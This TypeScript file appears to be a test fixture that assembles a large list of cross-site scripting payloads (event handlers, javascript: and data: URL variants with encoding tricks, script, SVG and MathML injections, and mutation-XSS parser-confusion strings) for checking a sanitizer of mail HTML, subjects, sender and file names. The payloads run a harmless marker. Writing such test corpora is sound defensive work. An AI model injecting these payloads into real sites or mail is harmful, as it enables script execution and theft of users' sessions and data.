const run = 'globalThis.hacked=1';

const handlers =
  'abort animationend animationstart beforeinput blur canplay click contextmenu copy cut dblclick drag drop error focus focusin hashchange input invalid keydown load loadstart message mousedown mouseenter mouseover paste pointerdown pointerenter scroll scrollend toggle touchstart transitionend unload wheel'.split(
    ' ',
  );
const carriers = ['img src=x', 'svg', 'body', 'p tabindex=0 autofocus'];

/** Event handlers, with and without quotes. */
const byHandler = handlers.flatMap((name, index) => [
  `<${carriers[index % carriers.length]} on${name}="${run}">`,
  `<a/on${name}=${run}>x</a>`,
]);

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  'javascript&#58;',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:',
  'file:///',
];
const places: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}${run}">x</a>`,
  (address) => `<img src="${address}${run}">`,
  (address) => `<iframe src="${address}${run}"></iframe>`,
  (address) => `<form action="${address}${run}"><button formaction="${address}${run}">x</button></form>`,
  (address) => `<table background="${address}${run}"><tr><td>x</td></tr></table>`,
];

/** Addresses that run something, wherever an address can be. */
const byAddress = schemes.flatMap((scheme) => places.map((place) => place(scheme)));

const elements = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//x.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script>${run}`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${run}">x</maction></math>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${run}>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<link rel="stylesheet" href="//x.test/x.css">`,
  `<style>@import '//x.test/x.css'</style>`,
  `<style>*{background:url(//x.test)}</style>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<keygen autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<portal src="javascript:${run}"></portal>`,
  `<dialog open><img src=x onerror=${run}></dialog>`,
  `<x contenteditable onfocus=${run} autofocus>x</x>`,
  `<custom-element onpointerrawupdate=${run}>x</custom-element>`,
];

/** Texts that one parser reads otherwise than the next. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<template><img src=x onerror=${run}></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<p>x <!-- <img src=x onerror=${run}> --!> <img src=x onerror=${run}> -->`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>-->`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<noembed><img src=x onerror=${run}></noembed>`,
  `<noframes><img src=x onerror=${run}></noframes>`,
  `<img src="x\`><script>${run}</script>"\`>`,
  `<img """><script>${run}</script>">`,
  `<<script>${run}//<</script>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<a href="https://x.test" title='"><img src=x onerror=${run}>'>x</a>`,
  `<p title="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</p>`,
  `<div style="background:url(javascript:${run})">x</div>`,
  `<div style="width:expression(${run})">x</div>`,
  `<div style="position:fixed;inset:0;background:url(https://x.test/x.png)">x</div>`,
  `<div style="-moz-binding:url(//x.test/x.xml#x)">x</div>`,
  `<div style="color:red;behavior:url(x.htc)">x</div>`,
  `<div style="color:\\75rl(//x.test)">x</div>`,
  `<font color='red"><img src=x onerror=${run}>'>x</font>`,
  `<a id=location name=location href="https://x.test">x</a>`,
  `<img name=getElementById src=x>`,
  `<p class="shell" id="root">x</p>`,
];

/** Texts that try to run something: as HTML of a mail, its subject, the name of its sender or of a file. */
export const hostileHtml: readonly string[] = [...byHandler, ...byAddress, ...elements, ...mutations];
